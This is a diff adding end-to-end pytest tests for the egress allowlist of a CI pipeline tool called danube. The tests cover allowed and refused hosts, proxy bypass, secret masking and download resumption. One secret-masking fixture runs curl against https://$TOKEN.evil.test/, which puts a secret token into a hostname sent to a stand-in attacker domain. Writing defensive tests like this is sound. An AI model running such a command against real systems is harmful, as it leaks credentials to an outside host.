@@ -1,0 +1,200 @@
+"""Egress in whole jobs: the list of the configuration, the lines in the log, the ledger by command, and a server that dies."""
+
+import json
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.e2e.runs import danube_run
+from tests.e2e.world import World
+from tests.sandbox.origins import Origin, serving
+from tests.waiting import wait_until
+
+SIZE = 4_000_000
+
+
+@pytest.fixture
+def origin(tmp_path: Path) -> Iterator[Origin]:
+    with serving({"/hello": b"hello\n"}, tmp_path, None) as served:
+        yield served
+
+
+def allow(world: World, port: int) -> list[str]:
+    """`files.test` leads to the loopback, which is allowed as well."""
+    with (world.path / "danube.toml").open("a") as settings:
+        settings.write('\n[egress]\nhosts = {"files.test" = "127.0.0.1"}\n')
+    return [f"files.test:{port}", f"127.0.0.1:{port}"]
+
+
+def test_a_job_reaches_what_its_list_names_and_its_log_says_what_was_refused(world: World, origin: Origin) -> None:
+    world.pipeline(
+        "app",
+        f"""
+        from danube import pipeline, step
+
+        @pipeline(name="app")
+        def build():
+            step.run("curl -sS http://files.test:{origin.server_port}/hello", name="reach")
+            step.run("curl -sS https://evil.test/ || true", name="refused")
+            step.run("curl -sS --noproxy '*' http://other.test/ || true", name="around")
+        """,
+        egress_allowlist=allow(world, origin.server_port),
+    )
+    world.serve()
+    job = world.trigger("app")
+    assert world.end_of(job)["status"] == "success", world.log(job)
+    log = world.log(job)
+    assert "hello\n" in log
+    second = log[log.index("--- step 2 ") : log.index("--- step 2 success")]
+    assert "--- step 2: egress refused: evil.test:443 (not-listed): " in second
+    assert "to allow it: egress_allowlist: [evil.test]\n" in second
+    assert "--- egress refused: a program looked up other.test by DNS" in log
+
+    found = json.loads(world.danube("explain", job, "--egress", "--json").stdout)
+    assert found["network"] == "allowlist"
+    assert found["needed_allowlist"] == [f"files.test:{origin.server_port}", f"127.0.0.1:{origin.server_port}"]
+    assert [(one["step"], one["host"], one["verdict"]) for one in found["destinations"]] == [
+        (1, "files.test", "allowed"), (2, "evil.test", "refused"), (None, "other.test", "refused"),
+    ]  # fmt: skip
+    assert found["destinations"][0]["received_bytes"] > 6
+    table = world.danube("explain", job, "--egress").stdout
+    assert f"files.test:{origin.server_port}" in table
+    assert "egress_allowlist:\n  - evil.test\n" in table
+
+
+def test_a_pipeline_without_a_list_is_told_which_line_is_missing(world: World) -> None:
+    world.pipeline(
+        "app",
+        """
+        from danube import pipeline, step
+
+        @pipeline(name="app")
+        def build():
+            step.run("curl -sS https://packages.example/", name="install")
+        """,
+    )
+    world.serve()
+    job = world.trigger("app")
+    assert world.end_of(job)["status"] == "failure"
+    assert "egress_allowlist: [packages.example]" in world.log(job)
+
+
+def test_a_secret_that_is_made_a_hosts_name_is_masked_where_people_look(world: World) -> None:
+    world.pipeline(
+        "app",
+        """
+        from danube import pipeline, secrets, step
+
+        @pipeline(name="app")
+        def build():
+            token = secrets.get("TOKEN")
+            step.run("curl -sS https://$TOKEN.evil.test/ || true", env={"TOKEN": token})
+        """,
+    )
+    world.serve()
+    world.danube("secrets", "set", "TOKEN", stdin="correct-horse-battery")
+    job = world.trigger("app")
+    world.end_of(job)
+    shown = world.log(job) + world.danube("explain", job, "--egress", "--json").stdout
+    assert "***.evil.test" in shown
+    assert "correct-horse" not in shown
+
+
+def test_a_download_goes_on_while_the_server_is_dead(world: World) -> None:
+    halfway, go_on = threading.Event(), threading.Event()
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        port = listening.getsockname()[1]
+
+        def serve() -> None:
+            connection, _ = listening.accept()
+            with connection:
+                connection.recv(65536)
+                head = f"HTTP/1.1 200 OK\r\nContent-Length: {SIZE}\r\nConnection: close\r\n\r\n".encode()
+                connection.sendall(head + b"1" * (SIZE // 2))
+                halfway.set()
+                go_on.wait(60)
+                connection.sendall(b"2" * (SIZE // 2))
+
+        thread = threading.Thread(target=serve)
+        thread.start()
+        world.pipeline(
+            "app",
+            f"""
+            from danube import pipeline, step
+
+            @pipeline(name="app")
+            def build():
+                step.run("curl -sS http://files.test:{port}/ | tr -d 2 | wc -c")
+            """,
+            egress_allowlist=allow(world, port),
+        )
+        world.serve()
+        job = world.trigger("app")
+        wait_until(halfway.is_set, 30, "half of the download")
+        world.kill()
+        go_on.set()
+        thread.join()
+        world.serve()
+        assert world.end_of(job)["status"] == "success", world.log(job)
+        assert f"{SIZE // 2}\n" in world.printed(job)
+    found = json.loads(world.danube("explain", job, "--egress", "--json").stdout)
+    assert found["contacts"][0]["received_bytes"] > SIZE
+
+
+# --- danube run
+
+
+@pytest.fixture
+def tree(tmp_path: Path, origin: Origin) -> Path:
+    directory = tmp_path / "tree"
+    directory.mkdir()
+    (directory / "danubefile.py").write_text(
+        "from danube import pipeline, step\n\n@pipeline(name='t')\ndef build():\n"
+        f"    step.run(\"curl -sS --noproxy '' http://127.0.0.1:{origin.server_port}/hello\")\n"
+    )
+    return directory
+
+
+def test_a_run_ends_with_the_allowlist_that_it_needs(tree: Path, tmp_path: Path, origin: Origin) -> None:
+    own = f"127.0.0.1:{origin.server_port}"
+    run = danube_run(tree, "--allow", own, state=tmp_path)
+    assert run.code == 0, run.everything
+    assert "hello\n" in run.printed
+    assert f"egress: 1 reached; the allowlist that this run needs:\n\negress_allowlist:\n  - {own}\n" in run.errors
+    events = [
+        json.loads(line) for line in danube_run(tree, "--allow", own, "--json", state=tmp_path).printed.splitlines()
+    ]
+    assert events[-1]["event"] == "egress"
+    assert events[-1]["needed_allowlist"] == [own]
+
+
+def test_a_hermetic_run_reaches_what_is_named_and_nothing_else(tree: Path, tmp_path: Path, origin: Origin) -> None:
+    own = f"127.0.0.1:{origin.server_port}"
+    refused = danube_run(tree, "--hermetic", state=tmp_path)
+    assert f"egress refused: {own} (loopback-address)" in refused.printed
+    assert (
+        f"egress: 0 reached, 1 refused; the allowlist that this run needs:\n\negress_allowlist:\n  - {own}\n"
+        in refused.errors
+    )
+    (tmp_path / "pipeline.yaml").write_text(f"kind: Pipeline\nspec:\n  egress_allowlist:\n    - {own}\n")
+    allowed = danube_run(tree, "--hermetic", "--allow", f"@{tmp_path / 'pipeline.yaml'}", state=tmp_path)
+    assert (allowed.code, "hello\n" in allowed.printed) == (0, True)
+
+
+@pytest.mark.parametrize(
+    ("words", "what"),
+    [
+        (["--hermetic", "--network=host"], "decided without a list"),
+        (["--allow", "https://a.example/"], "it is a URL"),
+        (["--allow", "@/nowhere.yaml"], "cannot be read as YAML"),
+    ],
+)
+def test_what_contradicts_itself_is_refused_before_anything_runs(
+    tree: Path, tmp_path: Path, words: list[str], what: str
+) -> None:
+    run = danube_run(tree, *words, state=tmp_path)
+    assert run.code == 2
+    assert what in run.errors
